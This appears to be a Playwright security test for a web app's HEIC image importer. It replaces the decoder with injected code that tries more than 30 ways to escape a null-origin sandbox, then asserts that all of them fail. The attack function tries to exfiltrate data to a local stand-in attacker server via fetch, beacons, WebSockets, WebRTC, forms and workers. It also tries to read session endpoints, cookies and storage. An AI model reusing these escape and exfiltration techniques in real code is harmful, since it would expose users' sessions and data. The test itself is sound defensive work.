/**
 * Tests a compromised HEIC decoder. The test replaces each decoder's script with a script that tries every known way to
 * escape the sandbox while a signed-in user imports a HEIC photo.
 */
import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { expect, openEditor, SEPARATING, test, upload } from '../support/test.ts'

test.use(SEPARATING)

const FILE = {
  name: 'IMG_0042.HEIC',
  mimeType: 'image/heic',
  buffer: readFileSync(join(import.meta.dirname, '../../client/media/importer/fixtures/four-corners.heic')),
}

/** The attacker's server. The test records every connection and every request. */
let stranger: Server
let foreign: string
let arrived: string[]
test.beforeAll(async () => {
  stranger = createServer((request, response) => response.end(arrived.push(`${request.method} ${request.url}`)))
  stranger.on('connection', () => arrived.push('a connection'))
  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve))
  foreign = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`
})
test.beforeEach(() => {
  arrived = []
})
test.afterAll(() => {
  stranger.close()
})

/** Runs inside the sandbox instead of a decoder. Each result should be a rejection; 'OPEN' means an escape. */
async function attack({ ours, foreign }: { ours: string; foreign: string }): Promise<Record<string, string>> {
  const refused = (reason: unknown) => (reason instanceof Error ? reason.name : String(reason))
  const attempt = async (work: () => unknown): Promise<string> => {
    try {
      const answer = await Promise.race([
        work(),
        new Promise((resolve) => setTimeout(resolve, 1500, 'refused: silence')),
      ])
      return String(answer ?? '').startsWith('refused') ? String(answer) : `OPEN: ${String(answer).slice(0, 80)}`
    } catch (reason) {
      return `refused: ${refused(reason)}`
    }
  }
  const element = (tag: 'img' | 'script' | 'link' | 'iframe', attributes: Record<string, string>) =>
    new Promise<string>((resolve) => {
      const made = document.createElement(tag)
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
      made.onload = () => resolve(`${tag} loaded`)
      made.onerror = () => resolve('refused')
      document.documentElement.append(made)
    })
  const inWorker = (code: string) =>
    new Promise<string>((resolve) => {
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
      worker.onmessage = ({ data }) => resolve(String(data))
      worker.onerror = () => resolve('refused')
    })
  // a document has a parent, unlike a worker
  const page = globalThis.parent as unknown as { fetch: typeof fetch; document: Document; localStorage: Storage }
  const tried: Record<string, () => unknown> = {
    'fetch of the page': () => page.fetch(`${ours}/api/account/export`),
    'document of the page': () => page.document.title,
    'storage of the page': () => page.localStorage.length,
    'address of the page': () => top?.location.href,
    'another page on top': () => {
      if (top) top.location.href = foreign
      return 'refused'
    },
    'another page in its place': () => {
      self.location.href = `${foreign}/?picture=here`
      return 'refused, if nothing arrives'
    },
    'a connection ahead': () => element('link', { rel: 'preconnect', href: foreign }),
    'a new window': () => (window.open(`${foreign}/window`) ? 'opened' : 'refused'),
    // In a worker, `document` is an object of the decoder without a `cookie`.
    cookies: () => document.cookie ?? 'refused: none',
    'local storage': () => localStorage.length,
    'session storage': () => sessionStorage.length,
    databases: () =>
      new Promise((resolve, reject) => {
        const opening = indexedDB.open('x')
        opening.onsuccess = () => resolve('opened')
        opening.onerror = () => reject(opening.error)
      }),
    caches: () => caches.open('x'),
    'files of the origin': () => navigator.storage.getDirectory(),
    'fetch of our server': () => fetch(`${ours}/api/auth/session`, { credentials: 'include' }),
    'fetch of a stranger': () => fetch(`${foreign}/fetch`, { mode: 'no-cors' }),
    beacon: () => (navigator.sendBeacon(`${foreign}/beacon`, 'x') ? 'refused, if nothing arrives' : 'refused'),
    'event source': () =>
      new Promise((resolve) => {
        const source = new EventSource(`${foreign}/events`)
        source.onerror = () => resolve('refused')
        source.onopen = () => resolve('open')
      }),
    'web socket': () =>
      new Promise((resolve) => {
        const socket = new WebSocket(foreign.replace('http', 'ws'))
        socket.onerror = () => resolve('refused')
        socket.onopen = () => resolve('open')
      }),
    'an image of a stranger': () => element('img', { src: `${foreign}/img` }),
    'an image of ours': () => element('img', { src: `${ours}/favicon.svg` }),
    'a script of ours': () => element('script', { src: `${ours}/api/auth/session` }),
    'a script of a stranger': () => element('script', { src: `${foreign}/script` }),
    'a style sheet': () => element('link', { rel: 'stylesheet', href: `${foreign}/style` }),
    'a prefetch': () => element('link', { rel: 'prefetch', href: `${foreign}/prefetch` }),
    'a module': () => import(/* @vite-ignore */ `${ours}/assets/none.js`),
    'a frame': () => element('iframe', { src: `${foreign}/frame` }).then(() => 'refused, if nothing arrives'),
    'a frame of our page': () => {
      const frame = document.createElement('iframe')
      frame.src = `${ours}/api/auth/session`
      document.documentElement.append(frame)
      return new Promise((resolve) => {
        frame.onload = () =>
          resolve(frame.contentDocument ? frame.contentDocument.body.textContent || 'refused' : 'refused')
      })
    },
    'a worker that fetches': () =>
      inWorker(
        `fetch(${JSON.stringify(foreign)}, { mode: 'no-cors' }).then(() => postMessage('open'), () => postMessage('refused'))`,
      ),
    'a worker that imports': () =>
      inWorker(
        `try { importScripts(${JSON.stringify(`${foreign}/import`)}); postMessage('open') } catch { postMessage('refused') }`,
      ),
    'a peer of another frame': () => {
      const frame = document.createElement('iframe')
      document.documentElement.append(frame)
      return (frame.contentWindow as unknown as Record<string, unknown> | null)?.RTCPeerConnection
    },
    'a peer': async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(foreign).host}` }] })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
      const found = await new Promise((resolve) => {
        peer.onicecandidate = ({ candidate }) => resolve(candidate?.candidate || 'refused: no candidate')
      })
      peer.close()
      return found
    },
    'a form': () => {
      const form = document.createElement('form')
      form.action = `${foreign}/form`
      document.documentElement.append(form)
      form.submit()
      return 'refused, if nothing arrives'
    },
  }
  const report: Record<string, string> = { origin: self.origin }
  for (const [name, work] of Object.entries(tried)) report[name] = await attempt(work)
  return report
}

/** Returns a script chunk that resembles the built one: it contains the code that the importer patches. */
function chunk(body: string): string {
  const formulas = 'A=1.164*(k[t+f]-16) =A+1.596*r,v[1+(c<<2)]=A-.813*r-.391*e,v[2+(c<<2)]=A+2.018*e'
  return `export default ${JSON.stringify(`/* ${formulas} */ var libheif = module.exports = ${body}`)}`
}

/** Returns the attack's report. The importer logs it as the reason for the decoder's failure. */
function listen(page: Page, decoder: string): Promise<string> {
  return page
    .waitForEvent('console', {
      predicate: (message) => message.text().startsWith(`HEIC decoder ${decoder} failed`),
      timeout: 0, // the test has its own timeout
    })
    .then((message) => message.text())
}

const importHeic = async (page: Page) => {
  await upload(page, FILE)
  await page.getByRole('alertdialog', { name: 'Convert Image Format' }).getByRole('button', { name: 'Convert' }).click()
}

for (const decoder of ['heic2any', 'libheif'])
  test(`code injected into the HEIC decoder ${decoder} can't escape the sandbox`, async ({ page, server }) => {
    const requests: string[] = []
    const body = `async () => { throw new Error(JSON.stringify(await (${attack})(${JSON.stringify({ ours: server.origin, foreign })}))) }`
    // the importer asks heic2any only if libheif doesn't run
    if (decoder === 'heic2any') await page.route(/\/assets\/libheif[^/]*\.js$/, (route) => route.abort())
    await page.route(new RegExp(`/assets/${decoder}[^/]*\\.js$`), (route) => {
      return route.fulfill({ contentType: 'text/javascript', body: chunk(body) })
    })
    await openEditor(page)
    page.on('request', (request) => {
      if (request.frame() !== page.mainFrame()) requests.push(request.url())
    })
    const said = listen(page, decoder)
    await importHeic(page)
    const report = JSON.parse(/\{.*\}/s.exec(await said)?.[0] ?? '{}') as Record<string, string>
    expect(report.origin).toBe('null')
    const { origin: _, ...tried } = report
    expect(Object.keys(tried).length).toBeGreaterThan(25)
    expect(Object.entries(tried).filter(([, answer]) => !answer.startsWith('refused'))).toEqual([])
    expect(arrived).toEqual([])
    // the attack has changed neither the page nor the session
    await expect(page).toHaveURL(/\/custom-editor$/)
    await expect(page.getByRole('alert')).toContainText('Error processing image. Please try again.')
  })

test('the HEIC sandbox is isolated even when a tab opens it as a page', async ({ page, server }) => {
  await openEditor(page)
  await page.goto(`${server.origin}/heic-sandbox.html`).catch(() => null) // a browser may block this page
  expect(await page.evaluate(() => self.origin)).toBe('null')
  expect(
    await page.evaluate(() =>
      fetch('/api/auth/session').then(
        () => 'open',
        () => 'refused',
      ),
    ),
  ).toBe('refused')
})
